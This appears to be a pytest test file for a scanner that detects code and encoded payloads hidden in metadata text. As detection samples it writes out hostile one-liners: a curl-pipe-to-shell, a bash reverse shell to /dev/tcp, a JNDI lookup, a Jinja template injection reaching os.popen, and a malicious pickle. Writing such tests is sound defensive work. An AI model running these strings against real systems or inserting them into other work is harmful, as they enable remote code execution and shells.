"""Texts in metadata: what they hold is handed on, and digests are not taken for payloads."""

from __future__ import annotations

import base64
import hashlib
import zlib

import pytest

from stannary.formats.embedded_text import hand_on
from stannary.formats.interface import Budget

PICKLE = b"\x80\x04\x95\x0a\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x8c\x01x\x93."


class Kept:
    def __init__(self):
        self.budget, self.siblings = Budget(), frozenset()
        self.facts, self.children, self.missed = [], {}, []

    def fact(self, kind, _offset=None, /, **data):
        self.facts.append((kind, data))

    def child(self, name, content, *, offset=None, hint=""):  # noqa: ARG002 - the protocol's names
        self.children[name] = (bytes(content), hint)

    def incomplete(self, reason, _offset=None):
        self.missed.append(reason)


def kept(text):
    sink = Kept()
    hand_on(sink, "k", text)
    return sink


@pytest.mark.parametrize(
    "text, what",
    [
        ("__import__('os').system('id')", "python"),
        ("x = os.popen('id')", "python"),
        ("exec(base64.b64decode(x))", "python"),
        ("pickle.loads(x)", "python"),
        ("curl https://example.invalid/x | sh", "shell"),
        ("bash -c 'id'", "shell"),
        ("bash -i >& /dev/tcp/127.0.0.1/9", "shell"),
        ("powershell -enc AAAA", "shell"),
        ("<SCRIPT src=x>", "markup"),
        ("${jndi:ldap://x}", "lookup"),
    ],
)
def test_code_is_named(text, what):
    assert what in {data["what"] for kind, data in kept(text).facts if kind == "text.code"}


@pytest.mark.parametrize(
    "text",
    [
        "A model for evaluation (execution time: 3 s), see https://example.org/eval(1).",
        "trained with lr_scheduler=cosine, (masterpiece:1.2), 1girl, os: linux",
        "use the system prompt of the paper; imports from the hub; load the weights",
        "<think> and </think> mark the reasoning; if a < b then stop",
        "MIT License. Permission is hereby granted, free of charge, to any person",
    ],
)
def test_plain_words_are_silent(text):
    assert kept(text).facts == []


@pytest.mark.parametrize("payload", [PICKLE, b"\x7fELF" + bytes(40), b"PK\x03\x04" + bytes(40), zlib.compress(b"import os\n" * 40)])
@pytest.mark.parametrize(
    "encode", [lambda b: base64.b64encode(b).decode(), lambda b: base64.urlsafe_b64encode(b).decode().rstrip("="), bytes.hex]
)
def test_encoded_payloads_are_handed_on(payload, encode):
    assert payload in {content for content, _ in kept(encode(payload)).children.values()}


def test_digests_and_identifiers_are_left_alone():
    found = [text for i in range(20_000) if kept(text := hashlib.sha256(str(i).encode()).hexdigest()).children]
    assert len(found) <= 1


def test_templates_go_to_the_template_reader():
    assert kept("{{ messages }}").children == {"k.jinja": (b"{{ messages }}", "jinja")}


def test_a_text_too_large_is_incomplete():
    assert kept("x" * (5 << 20)).missed


def test_one_piece_of_code_is_said_once_and_a_second_far_away_again():
    code = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    said = [data for kind, data in kept(code + " plain words " * 40 + code).facts if kind == "text.code"]
    assert len(said) == 2
